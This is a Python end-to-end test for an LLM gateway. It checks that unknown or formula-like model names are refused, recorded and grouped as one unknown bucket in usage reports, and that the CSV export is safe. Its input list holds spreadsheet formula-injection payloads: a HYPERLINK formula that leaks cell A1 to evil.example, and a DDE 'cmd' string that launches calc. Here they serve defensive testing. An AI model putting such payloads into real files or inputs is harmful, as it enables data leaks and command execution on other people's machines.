"""End to end: clients naming models no channel serves, formula-looking or huge, get their 404;
the records keep the names (cut to 200 characters), the reports count them in one `(unknown)`
row, and the CSV export opens safely (issue #12.5)."""

import csv
import io

from reports.rollup import UNKNOWN_MODEL, usage_rollup_run
from tests.gateway.conftest import Gateway

MESSAGES = [{"role": "user", "content": "hello"}]
JUNK = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "=" + "x" * 1000,
    *(f"model-{index}" for index in range(24)),
]


def test_junk_models_are_refused_recorded_and_reported_as_one_bucket(
    gateway: Gateway, staff_client
):
    gateway.channel("main")
    with gateway.http() as http:
        served = http.post(
            "/v1/chat/completions", json={"model": "gpt-4o-mini", "messages": MESSAGES}
        )
        refused = [
            http.post("/v1/chat/completions", json={"model": model, "messages": MESSAGES})
            for model in JUNK
        ]
        malformed = http.post("/v1/chat/completions", json={"model": "=cmd()", "messages": 1})

    assert served.status_code == 200
    assert {response.json()["error"]["code"] for response in refused} == {"model_not_found"}
    assert malformed.status_code == 400
    records = gateway.wait_records(len(JUNK) + 2)
    assert {record.model for record in records} == {
        "gpt-4o-mini", "=cmd()", *(model[:200] for model in JUNK)
    }  # fmt: skip

    usage_rollup_run()
    report = staff_client.get("/api/admin/reports/usage/", {"group_by": "model"}).json()
    exported = staff_client.get("/api/admin/reports/usage/", {"group_by": "model", "format": "csv"})

    rows = {row["group"]: row["requests"] for row in report["rows"]}
    assert rows == {"gpt-4o-mini": 1, UNKNOWN_MODEL: len(JUNK) + 1}
    assert report["total"]["requests"] == len(JUNK) + 2
    lines = list(csv.DictReader(io.StringIO(exported.content.decode(), newline="")))
    assert {line["group"]: line["requests"] for line in lines} == {
        "gpt-4o-mini": "1",
        UNKNOWN_MODEL: str(len(JUNK) + 1),
    }
    listed = staff_client.get("/api/admin/usage/", {"model": JUNK[1]}).json()["results"]
    assert [(record["model"], record["error_code"]) for record in listed] == [
        (JUNK[1], "model_not_found")
    ]
